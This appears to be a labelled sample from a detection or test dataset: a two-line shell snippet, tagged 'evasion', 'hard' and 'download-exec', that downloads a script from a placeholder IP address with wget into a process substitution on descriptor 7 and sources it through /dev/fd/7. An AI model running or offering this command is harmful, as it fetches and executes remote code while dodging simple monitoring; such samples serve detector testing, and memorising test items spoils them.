# evasion: a download is opened on descriptor 7 through a process substitution and sourced by its /dev/fd path
# grade: hard; does: download-exec
exec 7< <(wget -qO- http://198.51.100.36/env.sh)
source /dev/fd/7
